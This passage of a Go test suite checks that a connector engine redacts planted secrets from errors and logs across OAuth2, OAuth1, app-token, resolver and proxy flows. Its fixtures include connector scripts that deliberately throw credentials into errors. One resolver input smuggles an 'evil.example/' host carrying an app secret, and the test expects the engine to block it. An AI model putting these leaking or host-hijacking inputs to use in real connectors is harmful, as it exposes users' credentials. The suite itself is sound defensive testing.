				func(cl *Client) error { return canaryGet(cl, "/items") })
		}},
	)

	// --- oauth2, authorization code and refresh ---
	oauthConn := func() Connection {
		return Connection{Connector: "c", ConnectorParameters: canaryOAuthParams}
	}
	add(
		canaryRow{name: "oauth2/get-oauth-config-js-throws", want: "no config for", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: oauth2
` + canaryMethod("getOAuthConfig", `export default function ({ connectorParameters, connectionInput }) {
  leak('config', connectorParameters, connectionInput)
  throw new Error('no config for ' + JSON.stringify(connectorParameters))
}
`) + `  makeApiClient:
    mapping: {baseUri: "https://api.example.com"}
`)
			_, err := e.AuthorizationURL(ctx, oauthConn(), redirectURI)
			return err
		}},
		canaryRow{name: "oauth2/get-oauth-config-invalid-value", want: "clientAuthLocation must be one of", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: oauth2
  getOAuthConfig:
    mapping:
      clientId: client-1
      clientSecret: {$var: connectorParameters.clientSecret}
      authorizeUri: {$var: connectorParameters.clientSecret}
      tokenUri: {$concat: ["https://x.example/token?s=", {$var: connectorParameters.clientSecret}]}
      clientAuthLocation: {$var: connectorParameters.appSecret}
  makeApiClient:
    mapping: {baseUri: "https://api.example.com"}
`)
			_, err := e.AuthorizationURL(ctx, oauthConn(), redirectURI)
			return err
		}},
	)
	for _, tc := range []struct {
		name   string
		status int
		code   string
		want   string
	}{
		{"invalid-grant", 400, "invalid_grant", "connection_is_defunct"},
		{"invalid-client", 401, "invalid_client", "HTTP 401: invalid_client"},
		{"server-error", 500, "server_error", "HTTP 500: server_error"},
		{"invalid-request", 400, "invalid_request", "HTTP 400: invalid_request"},
	} {
		add(canaryRow{name: "oauth2/code-exchange-" + tc.name + "-echoes-request", want: tc.want, run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryTokenEcho(tc.status, tc.code), canaryEcho(500))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}})
	}
	add(
		canaryRow{name: "oauth2/code-exchange-html-500-echo", want: "unexpected text/html response", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				w.WriteHeader(500)
				io.WriteString(w, "<pre>"+canarySeen(r)+"</pre>")
			}, canaryEcho(500))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}},
		canaryRow{name: "oauth2/code-exchange-200-without-token-echo", want: "response has no access_token", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				json.NewEncoder(w).Encode(map[string]any{"message": canarySeen(r)})
			}, canaryEcho(500))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}},
		canaryRow{name: "oauth2/code-exchange-network-error", want: "token request failed", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec(canaryClosedURL(), ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}},
		canaryRow{name: "oauth2/callback-error-description-quotes-secrets", want: "access_denied: client secret [REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://idp.example", ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"error": {"access_denied"},
				"error_description": {"client secret " + canaryClientSecret + " and app secret " + canaryAppSecret + " refused"},
				"error_uri":         {"https://idp.example/err?s=" + url.QueryEscape(canaryClientSecret)}})
		}},
		canaryRow{name: "oauth2/callback-error-code-quotes-secret", want: "bad_secret_[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://idp.example", ""))
			return canaryAuthorize(e, oauthConn(), url.Values{"error": {"bad_secret_" + canaryClientSecret}})
		}},
		canaryRow{name: "oauth2/callback-state-mismatch", want: "state is missing or does not match", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://idp.example", ""))
			_, err := e.CompleteAuthorization(ctx, oauthConn(), url.Values{"state": {"other"}, "code": {canaryCode}}, redirectURI, "state-1", canaryVerifier)
			return err
		}},
		canaryRow{name: "oauth2/callback-without-code", want: "has no authorization code", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://idp.example", ""))
			_, err := e.CompleteAuthorization(ctx, oauthConn(), url.Values{"state": {"state-1"}, "other": {canaryCode}}, redirectURI, "state-1", canaryVerifier)
			return err
		}},
		canaryRow{name: "oauth2/get-token-data-js-throws", want: "exchange failed for [REDACTED]", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://idp.example", "", canaryMethod("getTokenData", `export default function ({ codeVerifier, queryParameters, connectorParameters }) {
  leak('token data', codeVerifier, queryParameters, connectorParameters)
  throw new Error('exchange failed for ' + queryParameters.code + ' ' + codeVerifier + ' ' + connectorParameters.clientSecret)
}
`)))
			_, err := e.CompleteAuthorization(ctx, oauthConn(), url.Values{"state": {"state-1"}, "code": {canaryCode}}, redirectURI, "state-1", canaryVerifier)
			return err
		}},
		canaryRow{name: "oauth2/access-token-response-mapping-js-throws", want: "for code [REDACTED]", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(500))
			e := p.one(canaryOAuthSpec(srv.URL, "", canaryMethod("getCredentialsFromAccessTokenResponse", `export default function ({ tokenResponse, queryParameters }) {
  leak('token response', tokenResponse, queryParameters)
  throw new Error('unexpected token response ' + JSON.stringify(tokenResponse) + ' for code ' + queryParameters.code)
}
`)))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}},
		canaryRow{name: "oauth2/access-token-response-mapping-not-object", want: "must return an object of credentials", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(500))
			e := p.one(canaryOAuthSpec(srv.URL, "", `  getCredentialsFromAccessTokenResponse:
    mapping: {$var: tokenResponse.access_token}
`))
			return canaryAuthorize(e, oauthConn(), url.Values{"code": {canaryCode}})
		}},
	)
	for _, tc := range []struct {
		name   string
		status int
		code   string
		want   string
	}{
		{"invalid-grant", 400, "invalid_grant", "connection_is_defunct"},
		{"invalid-client", 401, "invalid_client", "HTTP 401: invalid_client"},
		{"server-error", 500, "server_error", "HTTP 500: server_error"},
		{"rate-limited", 429, "slow_down", "HTTP 429: slow_down"},
	} {
		add(canaryRow{name: "oauth2/refresh-" + tc.name + "-echoes-refresh-token", want: tc.want, run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryTokenEcho(tc.status, tc.code), canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			conn := oauthConn()
			conn.ID, conn.Credentials = "conn-1", canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error {
				p.note(canaryGet(cl, "/me"))
				err := canaryGet(cl, "/me") // a defunct connection answers from memory
				if rec, gerr := e.store.Get(ctx, "conn-1"); gerr == nil {
					p.texts = append(p.texts, rec.State.LastError)
				}
				return err
			})
		}})
	}
	add(
		canaryRow{name: "oauth2/refresh-network-error-secret-in-token-url", want: "token request failed", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://api.example.com", "      refreshUri: {$concat: [\""+canaryClosedURL()+"/token?app_secret=\", {$var: connectorParameters.appSecret}]}\n"))
			conn := oauthConn()
			conn.Credentials = canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
		canaryRow{name: "oauth2/refresh-response-mapping-js-throws", want: "bad refresh response", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, "", canaryMethod("getCredentialsFromRefreshTokenResponse", `export default function ({ tokenResponse, credentials }) {
  leak('refresh response', tokenResponse, credentials)
  throw new Error('bad refresh response ' + JSON.stringify(tokenResponse) + ' for ' + JSON.stringify(credentials))
}
`)))
			conn := oauthConn()
			conn.Credentials = canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
		canaryRow{name: "oauth2/api-401-after-refresh-echoes-new-token", want: "HTTP 401", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			conn := oauthConn()
			conn.Credentials = map[string]any{"access_token": canaryAccessToken, "refresh_token": canaryRefreshToken}
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
		canaryRow{name: "oauth2/api-403-test-js-throws", want: "HTTP 403", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(403))
			e := p.one(canaryOAuthSpec(srv.URL, "", canaryThrowingTest))
			conn := oauthConn()
			conn.Credentials = map[string]any{"access_token": canaryAccessToken, "refresh_token": canaryRefreshToken}
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "oauth2/token-source-refresh-fails", want: "connection_is_defunct", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryTokenEcho(400, "invalid_grant"), canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, ""))
			conn := oauthConn()
			conn.Credentials = canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error {
				_, err := cl.TokenSource().Token()
				return err
			})
		}},
		canaryRow{name: "oauth2/store-first-write-fails-quoting-credentials", want: "refused row", run: func(p *canaryProbe) error {
			e := p.one(canaryOAuthSpec("https://api.example.com", ""), WithStore(canaryFailingStore{Store: store.NewMemory(), all: true}))
			conn := oauthConn()
			conn.ID, conn.Credentials = "conn-1", canaryExpired()
			_, err := e.Client(ctx, conn)
			return err
		}},
		canaryRow{name: "oauth2/refresh-store-write-fails-quoting-new-token", want: "storing new credentials: store conn-1 refused row", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, ""), WithStore(canaryFailingStore{Store: store.NewMemory()}))
			conn := oauthConn()
			conn.ID, conn.Credentials = "conn-1", canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
		canaryRow{name: "oauth2/refresh-credentials-hook-fails-quoting-new-token", want: "saving new credentials: database refused", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(401))
			e := p.one(canaryOAuthSpec(srv.URL, ""), WithCredentialsHook(func(_ context.Context, c CredentialsChange) error {
				return fmt.Errorf("database refused %v", c.Connection.Credentials)
			}))
			conn := oauthConn()
			conn.Credentials = canaryExpired()
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
	)

	// --- oauth2 with the OAuth app's credentials typed by the user ---
	byoApp := func(base string, methods ...string) string {
		return `name: C
auth:
  type: oauth2
  ui:
    schema:
      type: object
      properties: {clientId: {type: string}, clientSecret: {type: string}}
      required: [clientId, clientSecret]
` + strings.Join(methods, "") + `  makeApiClient:
    mapping:
      baseUri: ` + base + `/api
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
`
	}
	byoConn := Connection{Connector: "c", ConnectionParameters: map[string]any{"clientId": "client-1", "clientSecret": canaryInputSecret}}
	add(
		canaryRow{name: "oauth2-input-app/get-oauth-config-js-throws", want: "cannot use app", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(byoApp("https://api.example.com", canaryMethod("getOAuthConfig", `export default function ({ connectionInput }) {
  leak('input', connectionInput)
  throw new Error('cannot use app ' + JSON.stringify(connectionInput))
}
`)))
			_, err := e.AuthorizationURL(ctx, byoConn, redirectURI)
			return err
		}},
		canaryRow{name: "oauth2-input-app/code-exchange-echoes-input-secret-param", want: "connection_is_defunct", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryTokenEcho(400, "invalid_grant"), canaryEcho(401))
			e := p.one(byoApp(srv.URL, `  getOAuthConfig:
    mapping:
      clientId: {$var: connectionInput.clientId}
      authorizeUri: `+srv.URL+`/authorize
      tokenUri: `+srv.URL+`/token
      tokenParams: {app_secret: {$var: connectionInput.clientSecret}}
`))
			return canaryAuthorize(e, byoConn, url.Values{"code": {canaryCode}})
		}},
		canaryRow{name: "oauth2-input-app/make-api-client-js-throws", want: "no client for", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: oauth2
  ui:
    schema:
      type: object
      properties: {clientId: {type: string}, clientSecret: {type: string}}
  getOAuthConfig:
    mapping: {clientId: x, authorizeUri: "https://idp.example/a", tokenUri: "https://idp.example/t"}
` + canaryMethod("makeApiClient", `export default function ({ credentials, connectionParameters }) {
  leak('client', credentials, connectionParameters)
  throw new Error('no client for ' + JSON.stringify(connectionParameters) + ' ' + JSON.stringify(credentials))
}
`))
			conn := byoConn
			conn.Credentials = map[string]any{"access_token": canaryAccessToken}
			_, err := e.Client(ctx, conn)
			return err
		}},
	)

	// --- oauth2, client credentials grant ---
	ccSpec := func(tokenURL string, methods ...string) string {
		return `name: C
auth:
  type: oauth2
  getOAuthConfig:
    mapping:
      grantType: client_credentials
      clientId: client-1
      clientSecret: {$var: connectorParameters.clientSecret}
      tokenUri: ` + tokenURL + `
      tokenParams: {app_secret: {$var: connectorParameters.appSecret}}
  makeApiClient:
    mapping:
      baseUri: https://api.example.com
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
` + strings.Join(methods, "")
	}
	for _, tc := range []struct {
		name   string
		status int
		code   string
		want   string
	}{
		{"invalid-client", 401, "invalid_client", "HTTP 401: invalid_client"},
		{"invalid-scope", 400, "invalid_scope", "HTTP 400: invalid_scope"},
		{"server-error", 503, "temporarily_unavailable", "HTTP 503: temporarily_unavailable"},
	} {
		add(canaryRow{name: "oauth2-client-credentials/token-" + tc.name + "-echoes-secret", want: tc.want, run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryTokenEcho(tc.status, tc.code))
			e := p.one(ccSpec(srv.URL + "/token"))
			return canaryClientThen(e, oauthConn(), func(cl *Client) error {
				p.note(cl.EnsureFresh(ctx))
				return canaryGet(cl, "/me")
			})
		}})
	}
	add(
		canaryRow{name: "oauth2-client-credentials/token-network-error-secret-in-url", want: "token request failed", run: func(p *canaryProbe) error {
			e := p.one(ccSpec(`{$concat: ["` + canaryClosedURL() + `/token?app_secret=", {$var: connectorParameters.appSecret}]}`))
			return canaryClientThen(e, oauthConn(), func(cl *Client) error { return cl.EnsureFresh(ctx) })
		}},
		canaryRow{name: "oauth2-client-credentials/token-200-without-token-echo", want: "HTTP 200", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": canarySeen(r)}})
			})
			e := p.one(ccSpec(srv.URL + "/token"))
			return canaryClientThen(e, oauthConn(), func(cl *Client) error { return cl.EnsureFresh(ctx) })
		}},
	)

	// --- oauth1 ---
	oauth1Spec := func(base string) string {
		return `name: C
auth:
  type: oauth1
  getOAuthConfig:
    mapping:
      consumerKey: consumer-1
      consumerSecret: {$var: connectorParameters.secret}
      signatureMethod: PLAINTEXT
      requestTokenUri: ` + base + `/request_token
      authorizeUri: ` + base + `/authorize
      tokenUri: ` + base + `/access_token
  makeApiClient:
    mapping: {baseUri: "` + base + `/1"}
`
	}
	oauth1Conn := Connection{Connector: "c", ConnectorParameters: map[string]any{"secret": canaryConsumerSecret}}
	oauth1Provider := func(t *testing.T, access http.HandlerFunc) *httptest.Server {
		return canaryServer(t, func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/request_token":
				io.WriteString(w, url.Values{"oauth_token": {canaryPublicTempToken}, "oauth_token_secret": {canaryTempSecret}, "oauth_callback_confirmed": {"true"}}.Encode())
			case "/access_token":
				access(w, r)
			default:
				canaryEcho(401)(w, r)
			}
		})
	}
	add(
		canaryRow{name: "oauth1/request-token-401-echoes-signature", want: "temporary credential request returned HTTP 401", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(401)
				io.WriteString(w, url.Values{"oauth_problem": {"signature_invalid " + canarySeen(r)}, "oauth_problem_advice": {canarySeen(r)}}.Encode())
			})
			e := p.one(oauth1Spec(srv.URL))
			_, err := e.AuthorizationURL(ctx, oauth1Conn, redirectURI)
			return err
		}},
		canaryRow{name: "oauth1/request-token-network-error", want: "temporary credential request failed", run: func(p *canaryProbe) error {
			e := p.one(oauth1Spec(canaryClosedURL()))
			_, err := e.AuthorizationURL(ctx, oauth1Conn, redirectURI)
			return err
		}},
		canaryRow{name: "oauth1/access-token-401-echoes-signature", want: "token request returned HTTP 401", run: func(p *canaryProbe) error {
			srv := oauth1Provider(p.t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("WWW-Authenticate", `OAuth oauth_problem="`+url.PathEscape(canarySeen(r))+`"`)
				w.WriteHeader(401)
				io.WriteString(w, url.Values{"oauth_problem": {canarySeen(r)}}.Encode())
			})
			e := p.one(oauth1Spec(srv.URL))
			return canaryAuthorize(e, oauth1Conn, url.Values{"oauth_token": {canaryPublicTempToken}, "oauth_verifier": {canaryVerifier}})
		}},
		canaryRow{name: "oauth1/callback-problem-quotes-secrets", want: "authorization denied: consumer [REDACTED]", run: func(p *canaryProbe) error {
			srv := oauth1Provider(p.t, canaryEcho(500))
			e := p.one(oauth1Spec(srv.URL))
			return canaryAuthorize(e, oauth1Conn, url.Values{"oauth_token": {canaryPublicTempToken},
				"oauth_problem": {"consumer " + canaryConsumerSecret + " with " + canaryTempSecret + " refused"}})
		}},
		canaryRow{name: "oauth1/callback-token-mismatch", want: "oauth_token is missing or does not match", run: func(p *canaryProbe) error {
			srv := oauth1Provider(p.t, canaryEcho(500))
			e := p.one(oauth1Spec(srv.URL))
			return canaryAuthorize(e, oauth1Conn, url.Values{"oauth_token": {"other"}, "oauth_verifier": {canaryVerifier}})
		}},
		canaryRow{name: "oauth1/api-401-echoes-signature", want: "HTTP 401", run: func(p *canaryProbe) error {
			srv := oauth1Provider(p.t, canaryEcho(500))
			e := p.one(oauth1Spec(srv.URL))
			conn := oauth1Conn
			conn.Credentials = map[string]any{"oauth_token": canaryAccessToken, "oauth_token_secret": canaryTokenSecret}
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/members/me") })
		}},
		canaryRow{name: "oauth1/test-js-throws-with-echoed-signature", want: "HTTP 401", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := oauth1Provider(p.t, canaryEcho(500))
			e := p.one(oauth1Spec(srv.URL) + canaryThrowingTest)
			conn := oauth1Conn
			conn.Credentials = map[string]any{"oauth_token": canaryAccessToken, "oauth_token_secret": canaryTokenSecret}
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
	)

	// --- integration-app-token ---
	appTokenEcho := func(p *canaryProbe) *httptest.Server {
		return canaryServer(p.t, func(w http.ResponseWriter, r *http.Request) {
			p.secret(r.Header.Get(HeaderIntegrationAppToken))
			canaryEcho(401)(w, r)
		})
	}
	add(
		canaryRow{name: "app-token/platform-401-echoes-token", want: "HTTP 401", run: func(p *canaryProbe) error {
			srv := appTokenEcho(p)
			src := strings.ReplaceAll(appTokenConnector("integration-app-token"), "{{URL}}", srv.URL) + canaryThrowingTest
			e := p.one(src, WithWorkspace("ws-1", []byte(canaryWorkspace)))
			return canaryClientThen(e, Connection{Connector: "c", Account: &Account{ID: "cust-1", Metadata: map[string]any{"plan": "pro"}}},
				func(cl *Client) error {
					p.note(canaryGet(cl, "/whoami"))
					return cl.Test(ctx)
				})
		}},
		canaryRow{name: "app-token/make-api-client-js-throws", want: "cannot use token [REDACTED]", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: integration-app-token
`+canaryMethod("makeApiClient", `export default function ({ credentials }) {
  leak('token', credentials)
  throw new Error('cannot use token ' + credentials.token)
}
`), WithWorkspace("ws-1", []byte(canaryWorkspace)))
			_, err := e.Client(ctx, Connection{Connector: "c", Account: &Account{ID: "cust-1"}})
			return err
		}},
		canaryRow{name: "app-token/no-account", want: "need an account", run: func(p *canaryProbe) error {
			e := p.one(strings.ReplaceAll(appTokenConnector("membrane-token"), "{{URL}}", "https://api.example.com"), WithWorkspace("ws-1", []byte(canaryWorkspace)))
			_, err := e.Client(ctx, Connection{Connector: "c"})
			return err
		}},
	)

	// --- resolver-provided credentials ---
	resolverSpec := func(base string, methods ...string) string {
		return strings.NewReplacer("{{URL}}", base, "key: slack", "key: c").Replace(slackLike) + strings.Join(methods, "")
	}
	add(
		canaryRow{name: "resolver/api-401-echoes-resolved-token", want: "HTTP 401", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e := p.one(resolverSpec(srv.URL))
			e.DefineAuthResolver("c", func(context.Context, RunContext, IntegrationInfo) (*AuthResult, error) {
				return &AuthResult{Type: "oauth", Token: canaryResolved, RefreshToken: canaryRefreshToken, TTL: time.Minute}, nil
			})
			return canaryClientThen(e, Connection{Connector: "c", Account: &Account{ID: "a-1"}}, func(cl *Client) error { return canaryGet(cl, "/auth.test") })
		}},
		canaryRow{name: "resolver/force-refresh-fails-quoting-old-token", want: "resolver failed: token [REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e := p.one(resolverSpec(srv.URL))
			e.DefineAuthResolver("c", func(_ context.Context, run RunContext, _ IntegrationInfo) (*AuthResult, error) {
				if run.ForceRefresh {
					return nil, fmt.Errorf("token %s was revoked and its refresh token %s too", canaryResolved, canaryRefreshToken)
				}
				return &AuthResult{Type: "oauth", Token: canaryResolved, RefreshToken: canaryRefreshToken, TTL: time.Minute}, nil
			})
			return canaryClientThen(e, Connection{Connector: "c", Account: &Account{ID: "a-2"}}, func(cl *Client) error { return canaryGet(cl, "/auth.test") })
		}},
		canaryRow{name: "resolver/api-key-result-test-js-throws", want: "HTTP 403", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(403))
			e := p.one(resolverSpec(srv.URL, canaryThrowingTest))
			e.DefineAuthResolver("c", func(context.Context, RunContext, IntegrationInfo) (*AuthResult, error) {
				return &AuthResult{Type: "oauth", Token: canaryResolved, AdditionalFields: map[string]string{"team_secret": canaryAppSecret}}, nil
			})
			return canaryClientThen(e, Connection{Connector: "c", Account: &Account{ID: "a-3"}}, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "resolver/unknown-result-type", want: "unknown result type", run: func(p *canaryProbe) error {
			e := p.one(resolverSpec("https://api.example.com"))
			e.DefineAuthResolver("c", func(context.Context, RunContext, IntegrationInfo) (*AuthResult, error) {
				return &AuthResult{Type: "bearer-" + canaryResolved, Token: canaryResolved}, nil
			})
			_, err := e.Client(ctx, Connection{Connector: "c", Account: &Account{ID: "a-4"}})
			return err
		}},
		canaryRow{name: "resolver/additional-field-changes-host", want: "would change the API host", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: {$tpl: {template: "https://{shop}.myshopify.com/admin", values: {shop: {$var: credentials.shop}}}}
      headers: {X-Shopify-Access-Token: {$var: credentials.access_token}}
`)
			e.DefineAuthResolver("c", func(context.Context, RunContext, IntegrationInfo) (*AuthResult, error) {
				return &AuthResult{Type: "oauth", Token: canaryResolved, AdditionalFields: map[string]string{"shop": "evil.example/" + canaryAppSecret + "#"}}, nil
			})
			_, err := e.Client(ctx, Connection{Connector: "c", Account: &Account{ID: "a-5"}})
			return err
		}},
	)

	// --- proxy connectors ---
	proxyEngine := func(p *canaryProbe, base string, proxyMethods ...string) *Engine {
		return p.engine(map[string]string{
			"google.yml": `key: google
name: Google
auth:
  type: oauth2
  getOAuthConfig:
    mapping: {clientId: client-1, clientSecret: {$var: connectorParameters.clientSecret}, authorizeUri: "` + base + `/auth", tokenUri: "` + base + `/token"}
  makeApiClient:
    mapping:
      baseUri: ` + base + `/google
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
`,
			"sheets.yml": `key: sheets
name: Sheets
auth:
  type: proxy
  proxyKey: google
  makeApiClient:
    mapping:
      baseUri: ` + base + `/sheets
      headers: {X-Goog-Api-Key: {$var: connectorParameters.apiKey}}
` + strings.Join(proxyMethods, ""),
			"keyed.yml": "key: keyed\n" + canaryKeyedSpec(base),
			"keyproxy.yml": `key: keyproxy
name: Key proxy
auth:
  type: proxy
  proxyKey: keyed
  makeApiClient:
    mapping: {baseUri: "` + base + `/other"}
`,
		})
	}
	googleBase := func(creds map[string]any) *Connection {
		return &Connection{ID: "g-1", Connector: "google", ConnectorParameters: map[string]any{"clientSecret": canaryClientSecret}, Credentials: creds}
	}
	sheetsConn := func(base *Connection) Connection {
		return Connection{Connector: "sheets", Base: base, ConnectorParameters: map[string]any{"apiKey": canaryProxySecret}}
	}
	add(
		canaryRow{name: "proxy/base-input-invalid", want: "the keyed connection keyproxy rides on: invalid connection input", run: func(p *canaryProbe) error {
			e := proxyEngine(p, "https://api.example.com")
			_, err := e.Client(ctx, Connection{Connector: "keyproxy", Base: &Connection{Connector: "keyed", ConnectionParameters: map[string]any{"apiKey": "bad-" + canaryAPIKey}}})
			return err
		}},
		canaryRow{name: "proxy/base-refresh-invalid-grant-echo", want: "connection_is_defunct", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryTokenEcho(400, "invalid_grant"), canaryEcho(401))
			e := proxyEngine(p, srv.URL)
			return canaryClientThen(e, sheetsConn(googleBase(canaryExpired())), func(cl *Client) error { return canaryGet(cl, "/spreadsheets/1") })
		}},
		canaryRow{name: "proxy/api-401-after-base-refresh", want: "HTTP 401", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(401))
			e := proxyEngine(p, srv.URL)
			return canaryClientThen(e, sheetsConn(googleBase(map[string]any{"access_token": canaryAccessToken, "refresh_token": canaryRefreshToken})),
				func(cl *Client) error { return canaryGet(cl, "/spreadsheets/1") })
		}},
		canaryRow{name: "proxy/test-js-throws", want: "HTTP 403", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryOAuthProvider(p.t, canaryIssue, canaryEcho(403))
			e := proxyEngine(p, srv.URL, canaryThrowingTest)
			return canaryClientThen(e, sheetsConn(googleBase(map[string]any{"access_token": canaryAccessToken, "refresh_token": canaryRefreshToken})),
				func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "proxy/network-error", want: "key=[REDACTED]\": dial tcp", run: func(p *canaryProbe) error {
			e := proxyEngine(p, canaryClosedURL())
			return canaryClientThen(e, sheetsConn(googleBase(map[string]any{"access_token": canaryAccessToken})), func(cl *Client) error {
				_, err := cl.Get(ctx, "/spreadsheets/1", WithQuery(url.Values{"key": {canaryProxySecret}}))
				return err
			})
		}},
	)
	return rows
}

// TestCanaryHelpersCatchLeaks shows the probe is not blind: a path that
// puts each kind of canary into an error or a log line is reported.
func TestCanaryHelpersCatchLeaks(t *testing.T) {
	for _, leak := range []struct {
		name string
		do   func(p *canaryProbe) error
	}{
		{"raw in error", func(*canaryProbe) error { return errors.New("key " + canaryAPIKey) }},
		{"escaped in error", func(*canaryProbe) error { return errors.New("GET /x?key=" + url.QueryEscape(canaryAPIKey)) }},
		{"deep in chain", func(*canaryProbe) error {
			return &redactedError{msg: "clean", err: &MethodError{Method: "test", Err: errors.New(canaryAPIKey)}}
		}},
		{"typed field", func(*canaryProbe) error { return &oauth2.CallbackError{Code: "x", URI: canaryAPIKey} }},
		{"basic pair", func(*canaryProbe) error { return errors.New("Basic " + canaryBasicForms[0]) }},
		{"log line", func(p *canaryProbe) error { p.logger.Debug("x", "k", canaryAPIKey); return errors.New("clean") }},
		{"noted error", func(p *canaryProbe) error { p.note(errors.New(canaryAPIKey)); return errors.New("clean") }},
		{"run-time secret", func(p *canaryProbe) error { p.secret("minted-jwt-1"); return errors.New("jwt minted-jwt-1") }},
	} {
		p := newCanaryProbe(t)
		if len(p.leaks(leak.do(p))) == 0 {
			t.Errorf("%s: the leak was not reported", leak.name)
		}
	}
}
